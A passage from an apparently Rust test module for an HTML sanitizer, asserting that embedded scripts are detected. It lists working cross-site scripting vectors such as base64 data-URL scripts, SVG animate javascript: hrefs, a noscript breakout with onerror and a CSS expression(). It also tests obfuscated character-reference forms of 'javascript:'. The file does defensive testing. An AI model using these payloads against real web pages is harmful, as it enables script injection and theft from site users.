            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
            "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
            "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
            "<a><animate attributeName=\"onclick\" to=\"alert(1)\"/>x</a>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
            "<link rel=\"import\" href=\"//x.example/a.html\">",
        ] {
            let doc = format!("<h2>Notes</h2><p>See below.</p><div>{attack}</div><p>Thanks</p>");
            assert!(is_document(doc.as_bytes()), "{doc}");
            assert!(document_runs_script(doc.as_bytes()).is_some(), "{attack}");
        }
    }

    #[test]
    fn character_references_and_css_escapes_are_read() {
        assert_eq!(
            trimmed_lower(b" \tJa&#x76;a&Tab;script&colon;", 16),
            b"javascript:"
        );
        assert!(black_url(b"&#0000106avascript:alert(1)"));
        assert!(!black_url(b"https://example.com/?a=javascript:"));
        assert!(!black_url(b"data:image/png;base64,iVBO"));
        assert!(css_runs_script(b"x:exp/**/ression(alert(1))"));
        assert!(!css_runs_script(
            b"color: rgb(224, 62, 45); font-family: 'Segoe UI'"
        ));
    }
}
